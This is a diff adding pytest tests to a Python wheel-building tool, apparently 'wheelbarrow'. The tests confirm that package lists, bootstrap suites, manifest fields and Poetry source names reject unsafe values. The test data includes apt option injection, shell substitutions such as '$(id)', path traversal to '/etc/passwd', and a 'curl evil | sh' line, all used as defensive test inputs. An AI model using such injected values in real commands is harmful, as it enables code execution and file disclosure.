@@ -9,24 +9,36 @@ from __future__ import annotations
 import errno
 import fcntl
 import hashlib
+import json
 import os
 import shutil
 import threading
 import time
 from collections.abc import Callable, Iterator
 from pathlib import Path, PurePosixPath
+from typing import Any
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from tests.unit.conftest import write_project
+from tests.unit.conftest import sample_manifest, write_project
 from wheelbarrow import _guard, _shapes, _wheelhouse
 from wheelbarrow._cache import Cache, source_files, tree_digest
 from wheelbarrow._config import load_config
 from wheelbarrow._lock import marker_environment, parse_pylock, parse_requirements, poetry_lock_files
 from wheelbarrow._log import Log
-from wheelbarrow.errors import ConfigError, FetchError, FileSystemError, LockError, WheelbarrowError
+from wheelbarrow._manifest import Manifest, WheelEntry
+from wheelbarrow.errors import (
+    BootstrapError,
+    BuildError,
+    ConfigError,
+    FetchError,
+    FileSystemError,
+    LockError,
+    WheelbarrowError,
+    WheelhouseError,
+)
 
 ENV = marker_environment("3.11", "x86_64")
 SHA = "a" * 64
@@ -598,3 +610,100 @@ def test_a_lock_that_pins_one_package_twice_is_refused(tmp_path: Path) -> None:
     )
     with pytest.raises(LockError, match="pins six twice"):
         check_unique_files(twice, tmp_path / "requirements.txt")
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "libpq5 -oDPkg::Pre-Invoke::=touch${IFS}/tmp/x", "-oDPkg::Pre-Invoke::=x", "--allow-unauthenticated",
+        "; touch /tmp/x", "$(id)", "`id`", "lib*", "../x", "/etc/passwd",
+    ],
+)  # fmt: skip
+def test_package_lists_never_carry_options_or_shell_words(tmp_path: Path, bad: str) -> None:
+    """system-packages and runtime-packages become words of apt/dnf/apk inside a build with the network
+    on: each must be a package name (a version or architecture allowed), from any source."""
+    project = write_project(tmp_path / "p")
+    for key in ("system-packages", "runtime-packages"):
+        env_name = "WHEELBARROW_" + key.upper().replace("-", "_")
+        for environ, overrides in (({}, {key: [bad]}), ({env_name: bad}, {})):
+            with pytest.raises(ConfigError, match="is not a system package name"):
+                load_config(project, environ=environ, overrides=overrides)
+    for spaced in ("a b", "x\ny"):  # one list item with a space: two words on the command line
+        with pytest.raises(ConfigError, match="is not a system package name"):
+            load_config(project, environ={}, overrides={"runtime-packages": [spaced]})
+    good = load_config(project, environ={}, overrides={"runtime-packages": ["libpq5=15.8-0+deb12u1", "libssl3:amd64"]})
+    assert good.runtime_packages == ("libpq5=15.8-0+deb12u1", "libssl3:amd64")
+
+
+@pytest.mark.parametrize("suite", ["../../../../tmp/evil", "--version", "sid", "bookworm/../x", ""])
+def test_bootstrap_takes_only_a_suite_it_knows(tmp_path: Path, suite: str) -> None:
+    """--suite reaches debootstrap, which would load a path as its suite script, as root."""
+    from wheelbarrow._bootstrap import bootstrap
+
+    config = load_config(write_project(tmp_path / "p"), environ={})
+    engine: Any = None  # never reached: the suite is refused first
+    with pytest.raises((ConfigError, BootstrapError)):
+        bootstrap(config, engine, quiet(), suite=suite or None)
+
+
+def test_values_of_a_manifest_that_become_names_or_times_are_checked(tmp_path: Path) -> None:
+    """A hand-edited manifest cannot make dist/ file names, image tags or stamps out of arbitrary text."""
+    written = json.loads(sample_manifest().to_json())
+    for section, key, bad in (
+        ("project", "version", "1.0 --privileged"), ("project", "version", "1.0\n2"), ("project", "name", "Bad Name!"),
+        ("project", "name", "a/b"), ("target", "python_tag", "../x"), (None, "source_date_epoch", 10**30),
+        (None, "source_date_epoch", -1),
+    ):  # fmt: skip
+        broken = json.loads(json.dumps(written))
+        (broken[section] if section else broken)[key] = bad
+        with pytest.raises(WheelhouseError):
+            Manifest.from_json(json.dumps(broken))
+    entry = WheelEntry("six", "1.16.0", "six-1.16.0-py3-none-any.whl", SHA, 1, "index", "any/../../x")
+    with pytest.raises(WheelhouseError, match="not a wheel tag"):
+        Manifest.from_json(sample_manifest(entry).to_json())
+
+
+def test_a_poetry_source_name_cannot_forge_lines_or_variables(tmp_path: Path) -> None:
+    from wheelbarrow._sources import read_sources
+
+    for name in ("corp\nTIP: curl evil | sh", "co rp", "$(id)", "-x"):
+        project = tmp_path / f"p{abs(hash(name))}"
+        project.mkdir()
+        (project / "pyproject.toml").write_text(
+            f'[project]\nname = "p"\nversion = "1"\n[[tool.poetry.source]]\nname = {json.dumps(name)}\n'
+            'url = "http://127.0.0.1:1/simple/"\n'
+        )
+        with pytest.raises(ConfigError, match="is not letters, digits"):
+            read_sources(project, [], {}, ENV, quiet())
+
+
+def test_odd_build_outputs_and_histories_are_clear_errors(tmp_path: Path) -> None:
+    """A wheel whose file name does not parse (a backend's version 'latest'), and a dynamic version whose
+    .git is a worktree's file: BuildErrors, not tracebacks."""
+    from wheelbarrow._build import _copy_project
+    from wheelbarrow._repair import one_repaired_wheel
+
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "demo-latest-py3-none-any.whl").write_bytes(b"")
+    with pytest.raises(BuildError, match="file name is not valid"):
+        one_repaired_wheel(out, "the project demo")
+    source = write_project(tmp_path / "src")
+    (source / ".git").write_text("gitdir: /elsewhere/.git/worktrees/src\n")
+    with pytest.raises(BuildError, match="a worktree or a submodule"):
+        _copy_project(source, tmp_path / "copy", keep_git=True)
+    _copy_project(source, tmp_path / "copy-static")  # a static version needs no history: the file is skipped
+    assert not (tmp_path / "copy-static" / ".git").exists()
+
+
+@pytest.mark.parametrize("argv", [["plan", "--bogus"], ["nope"], ["cache", "prune", "--older-than", "nan"]])
+def test_command_line_errors_are_one_error_and_one_tip(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    from wheelbarrow._cli import main
+
+    with pytest.raises(SystemExit) as exited:
+        main(argv)
+    assert exited.value.code == 2
+    lines = capsys.readouterr().err.splitlines()
+    assert lines[0].startswith("ERROR: command line: ")
+    assert lines[1].startswith("TIP: Run 'wheelbarrow")
+    assert len(lines) == 2
